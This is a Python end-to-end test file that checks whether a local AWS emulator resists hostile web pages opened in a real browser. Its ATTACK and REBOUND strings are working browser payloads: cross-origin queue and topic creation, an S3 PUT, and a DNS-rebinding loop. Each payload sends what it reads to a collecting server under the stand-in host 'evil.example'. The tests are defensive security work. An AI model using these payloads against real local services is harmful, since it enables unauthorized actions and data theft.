"""Web pages of strangers in a real browser, against a local AWS that runs: nothing is done, and nothing told.

`evil.example` is a name that leads to this machine, as after DNS rebinding.
"""

from __future__ import annotations

import os
import subprocess
import threading
import urllib.request
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from deploy.core.waiting import wait_until
from harness.local_cloud.clients import local_client
from harness.local_cloud.local_cloud import EMBEDDED
from harness.local_environment.local_aws import EmulatorOptions, LocalAws, open_emulator, open_local_aws
from harness.serving.runtimes.choose import Choice
from tests.e2e import browsers

pytestmark = pytest.mark.e2e

REGION = "us-east-1"
NAMES = "MAP evil.example 127.0.0.1, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1"
LOOKS_SECONDS = 60.0


@dataclass
class Stranger:
    """A web server of a stranger's: it serves one page and keeps what the page reports."""

    page: str = ""
    reports: list[str] = field(default_factory=list)
    port: int = 0
    visits: int = 0

    @contextmanager
    def serving(self) -> Iterator[Stranger]:
        stranger = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                stranger.visits += 1
                self._answer(stranger.page.replace("REPORT", f"http://127.0.0.1:{stranger.port}/").encode())

            def do_POST(self) -> None:
                body = self.rfile.read(int(self.headers["Content-Length"]))
                stranger.reports.append(body.decode())
                self._answer(b"")

            def _answer(self, body: bytes) -> None:
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_: object) -> None:
                """Say nothing."""

        with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
            self.port = server.server_address[1]
            threading.Thread(target=server.serve_forever, daemon=True).start()
            yield self
            server.shutdown()

    def wait_for_report(self) -> str:
        return wait_until(lambda: self.reports[0] if self.reports else None, what="the page's report",
                          timeout_seconds=LOOKS_SECONDS)  # fmt: skip


@pytest.fixture(scope="module")
def browser() -> str:
    return browsers.chromium()


@pytest.fixture(scope="module")
def aws(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LocalAws]:
    folder = tmp_path_factory.mktemp("aws")
    options = EmulatorOptions(Choice("process", "the test's"))
    with open_local_aws(folder, state_dir=folder, region=REGION, cloud=EMBEDDED, options=options) as running:
        yield running


@contextmanager
def visiting(browser: str, url: str, profile: Path) -> Iterator[None]:
    command = browsers.opening(browser, url, profile, "--remote-debugging-port=0", names=NAMES)
    visit = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, env=dict(os.environ))
    try:
        yield
    finally:
        visit.terminate()
        visit.wait(timeout=30)


# LocalStack itself looks at Origin and Referer, and a page may send a picture's request without either.
ATTACK = """<meta name="referrer" content="no-referrer"><script>
const text = {'Content-Type': 'text/plain'};
const plain = (url, body) => fetch(url, {method: 'POST', mode: 'no-cors', headers: text, body});
const readable = url => fetch(url).then(reply => reply.text(), () => 'unreadable');
const shown = url => new Promise(done => { const i = new Image(); i.onload = i.onerror = done; i.src = url; });
(async () => {
  await plain('SAGEMAKER/endpoints/x/async-invocations', '');
  await plain('CLOUD/?Action=CreateQueue&QueueName=by-post', 'Action=CreateQueue&QueueName=by-post');
  await shown('CLOUD/?Action=CreateQueue&Version=2012-11-05&QueueName=by-picture');
  await shown('CLOUD/?Action=CreateTopic&Version=2010-03-31&Name=by-picture');
  await fetch('CLOUD/stolen', {method: 'PUT', mode: 'cors'}).catch(() => 0);
  const read = await Promise.all(['SAGEMAKER/_rehearsal/health', 'CLOUD/', 'CLOUD/_localstack/health'].map(readable));
  await fetch('REPORT', {method: 'POST', mode: 'no-cors', body: JSON.stringify(read)});
})();
</script>"""


def test_a_page_that_is_visited_can_do_and_read_nothing(browser: str, aws: LocalAws, tmp_path: Path) -> None:
    page = ATTACK.replace("SAGEMAKER", aws.sagemaker_url).replace("CLOUD", aws.cloud.url)
    with Stranger(page).serving() as stranger, visiting(browser, f"http://evil.example:{stranger.port}/", tmp_path):
        assert stranger.wait_for_report() == '["unreadable","unreadable","unreadable"]'
    assert "QueueUrls" not in local_client("sqs", endpoint_url=aws.cloud.url, region=REGION).list_queues()
    assert local_client("sns", endpoint_url=aws.cloud.url, region=REGION).list_topics()["Topics"] == []
    assert local_client("s3", endpoint_url=aws.cloud.url, region=REGION).list_buckets()["Buckets"] == []


def test_the_same_calls_work_from_this_machine(aws: LocalAws) -> None:
    """Otherwise the test above could not fail."""
    created = f"{aws.cloud.url}/?Action=CreateQueue&Version=2012-11-05&QueueName=by-a-program"
    assert b"by-a-program" in urllib.request.urlopen(created).read()  # noqa: S310  a loopback address
    sqs = local_client("sqs", endpoint_url=aws.cloud.url, region=REGION)
    sqs.delete_queue(QueueUrl=sqs.get_queue_url(QueueName="by-a-program")["QueueUrl"])


REBOUND = """<script>
const ask = () => fetch('/', {method: 'POST', headers: {'X-Amz-Target': 'SageMaker.ListEndpoints',
    'Content-Type': 'application/x-amz-json-1.1'}, body: '{}'})
  .then(async reply => ({status: reply.status, text: await reply.text()}), () => null);
(async () => {
  for (;;) {
    const said = await ask();
    if (said && said.text.startsWith('{')) {
      await fetch('LISTENER', {method: 'POST', mode: 'no-cors', body: JSON.stringify(said)});
      return;
    }
    await new Promise(done => setTimeout(done, 200));
  }
})();
</script>"""


def test_a_page_whose_name_is_bound_to_this_machine_is_refused(browser: str, aws: LocalAws, tmp_path: Path) -> None:
    """The page comes from a server whose port the emulator takes then: to the browser both are of one origin."""
    with Stranger().serving() as listener, ExitStack() as visit:
        page = REBOUND.replace("LISTENER", f"http://127.0.0.1:{listener.port}/")
        with Stranger(page).serving() as first:
            visit.enter_context(visiting(browser, f"http://evil.example:{first.port}/", tmp_path / "profile"))
            wait_until(lambda: first.visits or None, what="the visit", timeout_seconds=LOOKS_SECONDS)
        options = EmulatorOptions(Choice("process", "the test's"), port=first.port)
        with open_emulator(tmp_path / "rebound", tmp_path, aws.cloud, options):
            said = listener.wait_for_report()
    assert '"status":403' in said
    assert "evil.example" in said
